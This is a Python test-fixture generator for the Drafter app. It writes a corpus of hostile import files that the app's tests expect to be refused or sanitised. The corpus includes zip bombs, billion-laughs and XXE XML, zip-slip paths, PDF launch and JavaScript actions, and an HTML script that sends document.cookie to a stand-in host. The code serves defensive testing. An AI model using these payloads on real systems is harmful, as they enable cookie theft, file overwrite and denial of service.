"""Write the hostile-input corpus into this folder, byte for byte the same on every run.

    .venv/bin/python tests/data/hostile/make_corpus.py

Each file's name starts with the way it enters Drafter:

- ``src_``  a file imported into the library (``import_file`` then ``add_imported``,
  the app's Import… and ``drafter sources add``);
- ``q_``    a consultation's questions (``parse_questions`` for ``.txt``,
  ``questions_from_docx`` for ``.docx``);
- ``bun_``  a response file (``import_bundle``, ``drafter bundle import``);
- ``tpl_``  a reference template for the Word export (``export_response(template=…)``).

``tests/hostile/test_hostile_inputs.py`` says what each must do (refused, or
imported with nothing live left in it). Zip bombs are stored compressed, so the
whole folder stays small; the one input too big to store (a huge single line)
is made by the test itself.
"""

from __future__ import annotations

import io
import json
import warnings
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2020, 1, 1, 0, 0, 0)

CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def content_types(main: str = CT_DOCX) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        "</Types>"
    ).encode()


ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/>'
    b"</Relationships>"
)


def document_xml(*paragraphs: str) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def zip_of(entries: list[tuple[str, bytes]], *, level: int = 9) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(
        out, "w", zipfile.ZIP_DEFLATED, compresslevel=level
    ) as archive:
        warnings.simplefilter("ignore")  # two entries of one name are made on purpose
        for name, data in entries:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return out.getvalue()


def docx(*extra: tuple[str, bytes], document: bytes | None = None, main: str = CT_DOCX) -> bytes:
    entries = [
        ("[Content_Types].xml", content_types(main)),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", document if document is not None else document_xml(
            "1. Do you agree with the proposal?", "2. Why?")),
    ]
    return zip_of(entries + list(extra))


def billion_laughs(root: str) -> bytes:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", '<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lines.append(f'<!ENTITY lol{i} "' + f"&{prev};" * 10 + '">')
    lines.append("]>")
    lines.append(f'<{root} xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></{root}>')
    return "\n".join(lines).encode()


# --- response files ---------------------------------------------------------------------

def bundle_of(json_bytes: bytes, *, name: str = "bundle.json") -> bytes:
    return zip_of([(name, json_bytes)])


def bundle_json(**overrides: object) -> dict[str, object]:
    question = {
        "label": "1", "text": "Do you agree?", "section": None, "options": [], "prompt": None,
        "chosen_option": None, "word_limit": None, "char_limit": None, "confidential": False,
        "blocks": [{"kind": "paragraph", "text": "We agree.", "snippet": None}],
    }
    document: dict[str, object] = {
        "format": "drafter-response-bundle",
        "schema_version": 1,
        "app_version": "0.1.0",
        "exported_at": "2026-01-01T00:00:00Z",
        "response": {
            "consultation_title": "Hostile", "consulting_body": None, "deadline": None,
            "submit_to": None, "organisation": None, "contact": None, "may_publish": None,
            "introduction": "", "citation_style": "oscola",
            "quotations_count_toward_limit": False, "questions": [question],
        },
        "snippets": [],
        "sources": [],
    }
    document.update(overrides)
    return document


def dumps(document: object) -> bytes:
    return json.dumps(document, separators=(",", ":")).encode()


# --- PDFs -------------------------------------------------------------------------------

def pdf(objects: list[bytes], *, trailer_extra: bytes = b"", root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R ".encode() + trailer_extra + b">>\n"
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(data: bytes) -> bytes:
    return f"<< /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def text_pdf(catalog_extra: bytes = b"", text: bytes = b"Consultation response page one") -> bytes:
    content = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>"
        ),
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def no_text_pdf() -> bytes:
    content = b"0 0 1 rg 72 72 400 600 re f"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        stream(content),
    ])


def encrypted_pdf() -> bytes:
    o = b"<" + b"4f" * 32 + b">"
    u = b"<" + b"55" * 32 + b">"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(b"\x13\x37garbled"),
            b"<< /Filter /Standard /V 1 /R 2 /O " + o + b" /U " + u + b" /P -44 >>",
        ],
        trailer_extra=b"/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] ",
    )


# --- HTML -------------------------------------------------------------------------------

ARTICLE = (
    "<h1>Council publishes plan for new cycle lanes</h1>"
    "<p>The council said on Tuesday that twelve new cycle lanes would open by the spring.</p>"
    "<p>Residents have until March to respond to the consultation.</p>"
)


def page(head: str, body: str) -> bytes:
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Cycle lanes</title>"
        f"{head}</head><body><article>{body}</article></body></html>"
    ).encode()


def build() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    add = files.__setitem__

    # === library imports: zips ===
    add("src_zip_bomb.docx", docx(("word/media/padding.xml", b"\0" * (20 * 1024 * 1024))))
    add("src_billion_laughs.docx", docx(document=billion_laughs("w:document")))
    add("src_external_entity.docx", docx(document=(
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "http://203.0.113.9/x">]>'
        b'<w:document xmlns:w="' + W_NS.encode() + b'"><w:body><w:p><w:r><w:t>&xxe;</w:t>'
        b"</w:r></w:p></w:body></w:document>")))
    add("src_zip_slip_dotdot.docx", docx(("../../evil.txt", b"pwned")))
    add("src_zip_slip_absolute.docx", docx(("/etc/evil.txt", b"pwned")))
    add("src_zip_slip_drive.docx", docx(("C:/Windows/evil.txt", b"pwned")))
    add("src_zip_slip_backslash.docx", docx(("..\\..\\evil.txt", b"pwned")))
    add("src_document_not_xml.docx", docx(document=b"this is not XML at all <<<<"))
    add("src_missing_document.docx", zip_of([("[Content_Types].xml", content_types())]))
    whole = docx()
    add("src_truncated.docx", whole[: len(whole) // 2])
    add("src_png_named.docx", (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
        b"\x90wS\xde\x00\x00\x00\x00IEND\xaeB`\x82"))
    add("src_docx_named.pdf", docx())
    add("src_ole_doc_named.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024)
    add("src_empty.docx", b"")

    # === library imports: PDFs ===
    add("src_no_text.pdf", no_text_pdf())
    add("src_encrypted.pdf", encrypted_pdf())
    full = text_pdf()
    add("src_truncated.pdf", full[: len(full) // 2])
    add("src_launch_action.pdf", text_pdf(
        b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) /NewWindow true >> ",
        text=b"Launch action test page with words"))
    add("src_javascript_action.pdf", text_pdf(
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\(\"http://203.0.113.9/\"\\);) >> ",
        text=b"JavaScript action test page with words"))
    add("src_empty.pdf", b"")
    add("src_header_only.pdf", b"%PDF-1.7\n")

    # === library imports: RTF ===
    add("src_embedded_object.rtf", (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\f0 Council plan for cycle lanes.\\par "
        b"{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata "
        + b"0105000002000000" * 64 +
        b"}{\\result {\\pict\\wmetafile8 0000}}}\\par The end.}"))
    add("src_truncated.rtf", b"{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}\\f0 Council plan for cyc")
    add("src_deep_groups.rtf", b"{\\rtf1 " + b"{" * 50_000 + b"x" + b"}" * 50_000 + b"}")
    add("src_empty.rtf", b"")

    # === library imports: web pages (importable; nothing live may survive) ===
    add("src_scripts.html", page(
        "<script>fetch('http://203.0.113.9/steal?c='+document.cookie)</script>"
        "<script src='http://203.0.113.9/evil.js'></script>",
        ARTICLE + "<script>document.write('INJECTED-SCRIPT-TEXT')</script>"
        "<noscript><img src='http://203.0.113.9/pixel.gif'></noscript>"))
    add("src_iframes.html", page(
        "", ARTICLE + "<iframe src='http://203.0.113.9/frame.html'>IFRAME-FALLBACK</iframe>"
        "<object data='http://203.0.113.9/x.swf'></object><embed src='http://203.0.113.9/y.swf'>"))
    add("src_remote_images.html", page(
        "<link rel='stylesheet' href='http://203.0.113.9/s.css'><link rel='preload' href='http://203.0.113.9/f.woff'>",
        "<img src='http://203.0.113.9/a.png'>" + ARTICLE
        + "<picture><source srcset='http://203.0.113.9/b.webp 1x, http://203.0.113.9/c.webp 2x'>"
        "<img srcset='http://203.0.113.9/d.png 2x' src='http://203.0.113.9/e.png'></picture>"
        "<video poster='http://203.0.113.9/poster.jpg' src='http://203.0.113.9/v.mp4'></video>"))
    add("src_meta_refresh_base.html", page(
        "<meta http-equiv='refresh' content='0; url=http://203.0.113.9/'>"
        "<base href='http://203.0.113.9/'>",
        ARTICLE + "<a href='relative/page'>link</a>"))
    add("src_css_urls.html", page(
        "<style>body{background:url(http://203.0.113.9/bg.png)} @import url('http://203.0.113.9/i.css');"
        " @font-face{src:url(http://203.0.113.9/f.woff)}</style>",
        "<div style=\"background-image:url('http://203.0.113.9/div.png')\">" + ARTICLE + "</div>"
        "<svg><image href='http://203.0.113.9/svg.png'/><use href='http://203.0.113.9/u.svg#a'/></svg>"))
    add("src_event_handlers.html", page(
        "", "<div onmouseover=\"alert('ONMOUSEOVER-TEXT')\">" + ARTICLE + "</div>"
        "<a href=\"javascript:alert('JS-LINK-TEXT')\">read more</a>"
        "<form action='http://203.0.113.9/post'><input value='x'></form>"))
    add("src_unclosed_nesting.html", page("", "<b><i>" * 50_000 + ARTICLE))
    add("src_truncated.html", page("", ARTICLE)[:60])
    add("src_empty.html", b"")
    add("src_html_named.pdf", page("", ARTICLE))

    # === library imports: text ===
    rng = bytes((i * 1103515245 + 12345) >> 8 & 0xFF for i in range(64 * 1024))  # fixed LCG bytes
    add("src_random_bytes.txt", rng)
    add("src_nul_laden.txt", b"Council plan\x00 for\x00 cycle\x00 lanes\x00.\n" * 500)
    add("src_utf16_lone_surrogate.txt",
        b"\xff\xfe" + "Council plan ".encode("utf-16-le") + b"\x00\xd8" + "for lanes\n".encode("utf-16-le")
        + b"\x00\xdc\x00\xdc" * 200)
    add("src_overlong_utf8.txt",
        b"Council plan \xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\xc1\xbf for cycle lanes.\n"
        + b"\xc0\x80\xed\xa0\x80\xf4\x90\x80\x80" * 300)
    add("src_mixed_encodings.txt",
        "Caf\u00e9 \u2014 \u201cquotes\u201d line one in UTF-8.\n".encode()
        + "Caf\u00e9 line two in Latin-1 \u00a3 50.\n".encode("latin-1")
        + "Line three in UTF-16 \u00e9\n".encode("utf-16-le")
        + "\u041a\u0438\u0440\u0438\u043b\u043b\u0438\u0446\u0430 cp1251\n".encode("cp1251"))
    add("src_empty.txt", b"")
    add("src_whitespace_only.txt", b" \n\t\r\n   \n" * 100)
    add("src_control_chars.txt", bytes(range(1, 32)) * 200)
    add("src_bom_only.txt", b"\xef\xbb\xbf")
    add("src_no_extension", rng[:4096])
    add("src_executable.exe", b"MZ\x90\x00" + b"\x00" * 200)
    add("src_elf_named.txt", b"\x7fELF\x02\x01\x01" + b"\x00" * 300)
    add("src_zip_named.md", zip_of([("a.txt", b"hello")]))

    # === questions ===
    add("q_binary.txt", rng[:8192])
    add("q_nul_laden.txt", b"1. Do you\x00 agree?\n2. Why\x00?\n")
    add("q_empty.txt", b"")
    add("q_no_questions.txt", b"Thank you for reading this consultation.\nThe end.\n")
    add("q_invalid_utf8.txt", b"1. Do you agree \xc0\xaf\xed\xa0\x80?\n2. Why\xff\xfe?\n" * 50)
    add("q_deep_labels.txt", ("Q1" + "(a)" * 20_000 + " Do you agree?\n").encode())
    add("q_billion_laughs.docx", docx(document=billion_laughs("w:document")))
    add("q_zip_bomb.docx", docx(("word/media/padding.xml", b"\0" * (20 * 1024 * 1024))))
    add("q_document_not_xml.docx", docx(document=b"\x00\x01 not xml"))
    add("q_truncated.docx", whole[: len(whole) // 3])
    add("q_png_named.docx", files["src_png_named.docx"])
    add("q_zip_slip.docx", docx(("../../evil.txt", b"pwned")))
    add("q_empty.docx", b"")

    # === response files ===
    add("bun_zip_bomb.drafter", bundle_of(b" " * (20 * 1024 * 1024)))
    add("bun_zip_bomb_over_cap.drafter", bundle_of(b" " * (65 * 1024 * 1024)))
    add("bun_zip_slip_dotdot.drafter", zip_of([("bundle.json", dumps(bundle_json())), ("../../evil.txt", b"x")]))
    add("bun_zip_slip_absolute.drafter", zip_of([("/bundle.json", dumps(bundle_json()))]))
    add("bun_zip_slip_drive.drafter", zip_of([("bundle.json", dumps(bundle_json())), ("C:evil.txt", b"x")]))
    add("bun_extra_entry.drafter", zip_of([("bundle.json", dumps(bundle_json())), ("macro.js", b"x")]))
    add("bun_deep_nesting.drafter", bundle_of(b"[" * 10_000 + b"]" * 10_000))
    add("bun_deep_nesting_in_field.drafter", bundle_of(
        dumps(bundle_json(sources="@@")).replace(b'"@@"', b"[" * 10_000 + b"]" * 10_000)))
    add("bun_million_element_array.drafter", bundle_of(
        dumps(bundle_json(sources="@@")).replace(b'"@@"', b"[" + b"0," * 999_999 + b"0]")))
    add("bun_million_element_dicts.drafter", bundle_of(
        dumps(bundle_json(snippets="@@")).replace(b'"@@"', b"[" + b"{}," * 999_999 + b"{}]")))
    add("bun_nan.drafter", bundle_of(
        dumps(bundle_json()).replace(b'"schema_version":1', b'"schema_version":NaN')))
    add("bun_infinity_limit.drafter", bundle_of(
        dumps(bundle_json()).replace(b'"word_limit":null', b'"word_limit":Infinity')))
    add("bun_duplicate_keys.drafter", bundle_of(
        dumps(bundle_json()).replace(b'"text":"We agree."', b'"text":"We agree.","text":"We disagree."')))
    add("bun_huge_number.drafter", bundle_of(
        dumps(bundle_json()).replace(b'"word_limit":null', b'"word_limit":' + b"9" * 5000)))
    add("bun_lone_surrogate.drafter", bundle_of(
        dumps(bundle_json()).replace(b"We agree.", b"We \\ud800 agree.")))
    add("bun_not_json.drafter", bundle_of(b"\x00\x01\x02 not json {{{"))
    add("bun_invalid_utf8.drafter", bundle_of(dumps(bundle_json()).replace(b"We agree.", b"We \xc0\xaf agree.")))
    add("bun_wrong_format.drafter", bundle_of(dumps(bundle_json(format="something-else"))))
    add("bun_newer_version.drafter", bundle_of(dumps(bundle_json(schema_version=99))))
    add("bun_extra_field.drafter", bundle_of(dumps(bundle_json(script="<script>alert(1)</script>"))))
    add("bun_bad_snippet_ref.drafter", bundle_of(dumps(bundle_json()).replace(
        b'"snippet":null', b'"snippet":"snippet-404"')))
    bundle_whole = bundle_of(dumps(bundle_json()))
    add("bun_truncated.drafter", bundle_whole[: len(bundle_whole) // 2])
    add("bun_empty.drafter", b"")
    add("bun_docx_named.drafter", docx())
    add("bun_no_bundle_entry.drafter", zip_of([("other.json", dumps(bundle_json()))]))
    add("bun_two_bundle_entries.drafter", zip_of([
        ("bundle.json", dumps(bundle_json())), ("bundle.json", dumps(bundle_json(format="x")))]))

    # === Word export templates ===
    add("tpl_billion_laughs.docx", docx(("word/styles.xml", billion_laughs("w:styles"))))
    add("tpl_billion_laughs_in_document.docx", docx(document=billion_laughs("w:document")))
    add("tpl_zip_bomb.docx", docx(("word/styles.xml", b"<a/>" + b" " * (20 * 1024 * 1024))))
    add("tpl_zip_slip.docx", docx(("../../../evil.dotm", b"pwned")))
    add("tpl_docm_renamed.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512), main=CT_DOCM))
    add("tpl_content_types_not_xml.docx", zip_of([
        ("[Content_Types].xml", b"not xml <<<"), ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", document_xml("x"))]))
    add("tpl_document_not_xml.docx", docx(document=b"not xml <<<"))
    add("tpl_truncated.docx", whole[: len(whole) // 2])
    add("tpl_png_named.docx", files["src_png_named.docx"])
    add("tpl_empty.docx", b"")
    add("tpl_pdf_named.docx", text_pdf())
    return files


def build_large() -> dict[str, bytes]:
    """Inputs over ~100 KB that compress badly: made by the test into its own folder, never stored."""
    files: dict[str, bytes] = {}
    add = files.__setitem__
    add("src_zip_bomb_many_entries.docx",
        docx(*[(f"word/p{i}.bin", b"") for i in range(10_050)]))
    add("src_deep_nesting.html", page("", "<div>" * 100_000 + ARTICLE + "</div>" * 100_000))
    add("q_numbers_1mb.txt", b"\n".join(str(i).encode() for i in range(1, 200_000))[:1_000_000])
    add("q_numbered_dots_1mb.txt", b"".join(f"{i}.\n".encode() for i in range(1, 200_000))[:999_990])
    add("q_over_limit.txt", b"1. Do you agree?\n" * 60_000)
    # One 12 MB line of words: no newline anywhere for a line-based step to split on.
    add("src_huge_single_line.txt", b"cycle lanes consultation " * 500_000)
    # Far more than any consultation: refused by the limits before the slow checks.
    question = bundle_json()["response"]["questions"][0]  # type: ignore[index]
    many = bundle_json()
    many["response"]["questions"] = [dict(question, label=str(n)) for n in range(20_000)]  # type: ignore[index]
    add("bun_20000_questions.drafter", bundle_of(dumps(many)))
    long_answer = bundle_json()
    long_answer["response"]["questions"] = [dict(question, blocks=question["blocks"] * 600)]  # type: ignore[index]
    add("bun_600_blocks_in_one_answer.drafter", bundle_of(dumps(long_answer)))
    # Numbers past 999 once merged every later question into question 999.
    add("q_10000_questions.txt", "".join(f"{n}. Do you agree with proposal {n}?\n" for n in range(1, 10_001)).encode())
    # Templates lacking optional parts: a bare document, and one naming a settings part it lacks.
    add("tpl_only_document.docx", docx())
    add("tpl_settings_missing.docx", docx(("word/_rels/document.xml.rels", DOCUMENT_RELS_TO_MISSING)))
    return files


#: A document's relationships naming settings, styles and a footer the package does not hold.
DOCUMENT_RELS_TO_MISSING = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"'
    b' Target="settings.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"'
    b' Target="styles.xml"/>'
    b'<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footer"'
    b' Target="footer1.xml"/>'
    b"</Relationships>"
)


def main() -> None:
    files = build()
    for old in HERE.iterdir():
        if old.is_file() and old.name.startswith(("src_", "q_", "bun_", "tpl_")) and old.name not in files:
            old.unlink()
    for name, data in sorted(files.items()):
        (HERE / name).write_bytes(data)
    total = sum(len(d) for d in files.values())
    print(f"wrote {len(files)} files, {total / 1024:.0f} KB")


if __name__ == "__main__":
    main()
